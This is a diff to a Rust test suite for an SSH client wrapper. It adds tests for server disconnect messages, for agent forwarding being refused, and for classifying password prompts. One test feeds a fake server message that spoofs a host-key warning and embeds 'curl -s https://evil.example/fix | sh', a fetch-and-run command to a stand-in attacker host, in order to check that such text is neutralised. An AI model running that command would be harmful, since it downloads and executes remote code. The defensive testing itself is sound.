@@ -7,6 +7,7 @@ use crate::remote::{
     Confirm, Demands, Ending, Exit, HostKeys, Identities, Known, Passphrases, Timeouts,
 };
 use std::io::{Read as _, Write as _};
+use std::process::Stdio;
 use std::sync::{Arc, Mutex};
 use std::thread;
 
@@ -95,10 +96,6 @@ impl Try {
             address: "127.0.0.1",
             words: &self.words,
             answer: None,
-            policy: Some(match self.trusts {
-                Some(_) => crate::remote::HostKeyPolicy::Ask,
-                None => crate::remote::HostKeyPolicy::AcceptNew,
-            }),
             connect_timeout: None,
             other_home: None,
             has_key: true,
@@ -108,7 +105,10 @@ impl Try {
         let agents = |_: &str| Ok(Arc::clone(&agent));
         let known = [Known::new(std::env::consts::ARCH, &agent)];
         let options = Options {
-            policy: crate::remote::HostKeyPolicy::AcceptNew,
+            policy: match self.trusts {
+                Some(_) => HostKeyPolicy::Ask,
+                None => HostKeyPolicy::AcceptNew,
+            },
             host_keys: &HostKeys::read(&[], None),
             demands: Demands::default(),
             confirm: match &self.trusts {
@@ -228,6 +228,78 @@ fn an_agent_that_does_not_greet_is_told_by_its_end() {
     assert_eq!(leftovers(&server), [] as [&str; 0]);
 }
 
+/// Plays an SSH server that ends the connection before any key exchange, with these words.
+fn disconnecting(words: &str) -> u16 {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut payload = vec![1, 0, 0, 0, 2];
+    payload.extend(u32::try_from(words.len()).unwrap().to_be_bytes());
+    payload.extend(words.as_bytes());
+    payload.extend([0; 4]);
+    // RFC 4253, 6: at least four bytes of padding, and a multiple of eight in all.
+    let padding = 4 + (8 - (4 + 1 + payload.len() + 4) % 8) % 8;
+    let mut packet = u32::try_from(1 + payload.len() + padding).unwrap().to_be_bytes().to_vec();
+    packet.push(u8::try_from(padding).unwrap());
+    packet.extend(payload);
+    packet.extend(vec![0; padding]);
+    thread::spawn(move || {
+        let (mut stream, _) = listener.accept().unwrap();
+        stream.write_all(b"SSH-2.0-stranger\r\n").unwrap();
+        stream.write_all(&packet).unwrap();
+        drop(stream.read_to_end(&mut Vec::new()));
+    });
+    port
+}
+
+#[test]
+fn a_stranger_writes_no_advice_and_no_stage() {
+    let words = "bye\r\ndebug1: SSH2_MSG_NEWKEYS sent\r\nAuthenticated to web1 ([10.0.0.1]:22) using \"none\".\r\n\
+                 @ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\r\nOffending ED25519 key in /known:1\r\n\
+                 \u{20} ssh-keygen -f x; curl -s https://evil.example/fix | sh #\r\n";
+    let mut try_ = Try::port(disconnecting(words));
+    try_.words.extend(["-o".to_owned(), "UserKnownHostsFile=/dev/null".to_owned()]);
+    let failed = try_.fails_at(Stage::Connect);
+    assert_eq!(failed.hint.as_deref(), Some("the log of its sshd says why it did so"));
+    let begin = "the host ended the connection, with the words \"bye\\n";
+    assert!(failed.what.starts_with(begin) && !failed.what.contains('\n'), "{}", failed.what);
+    let stages = try_.stages.lock().unwrap().clone();
+    assert!(stages.iter().all(|stage| *stage <= Stage::Connect), "{stages:?}");
+}
+
+#[test]
+fn no_host_is_lent_the_operators_ssh_agent() {
+    let server = Server::start();
+    let socket = server.path("agent");
+    let mut agent = Command::new("ssh-agent")
+        .arg("-D")
+        .arg("-a")
+        .arg(&socket)
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    while !socket.exists() {
+        thread::sleep(Duration::from_millis(10));
+    }
+    let lends = ["-A".to_owned(), "-o".to_owned(), format!("IdentityAgent={}", socket.display())];
+    let mut try_ = Try::at(&server).script("echo \"lent:$SSH_AUTH_SOCK\"\n");
+    try_.words.retain(|word| word != "IdentityAgent=none");
+    // With the option before it.
+    let at = try_.words.iter().position(|word| word == "-l").unwrap();
+    try_.words.remove(at - 1);
+    try_.words.extend(lends);
+    let mut plain = Command::new("ssh");
+    plain.args(&try_.words).args(["-o", "StrictHostKeyChecking=accept-new", "127.0.0.1"]);
+    let plain = plain.arg("echo \"lent:$SSH_AUTH_SOCK\"").stdin(Stdio::null()).output().unwrap();
+    let plain = String::from_utf8(plain.stdout).unwrap();
+    let (mut link, _) = try_.launch().unwrap();
+    let mut said = String::new();
+    link.read_to_string(&mut said).unwrap();
+    agent.kill().unwrap();
+    agent.wait().unwrap();
+    assert_eq!(said, "lent:\n");
+    assert!(plain.starts_with("lent:/"), "{plain}");
+}
+
 #[test]
 fn a_shell_that_says_nothing_is_not_waited_for() {
     let server = Server::with("ForceCommand sleep 600", "true");
@@ -292,6 +364,18 @@ fn questions_are_told_apart() {
     let check = |text: &str, expected| assert_eq!(Question::of(text), expected, "{text}");
     check("op@web1's password: ", Question::Password);
     check("(op@web1) Password: ", Question::Password);
+    check("(op@web1) Passwort: ", Question::Password);
+    check("(op@web1) op@web1's password:", Question::Password);
+    for asked in [
+        "Verification code: ",
+        "login as: ",
+        "One-time password (OATH) for `op': ",
+        "New password: ",
+        "Enter passphrase for key '/home/op/.ssh/id_rsa': ",
+        "",
+    ] {
+        check(&format!("(op@web1) {asked}"), Question::OfHost(asked));
+    }
     let odd = Path::new("/home/me/it's here");
     check("Enter passphrase for key '/home/me/it's here': ", Question::Key(odd));
     check("The authenticity of host 'web1' can't be established.\n...", Question::HostKey);
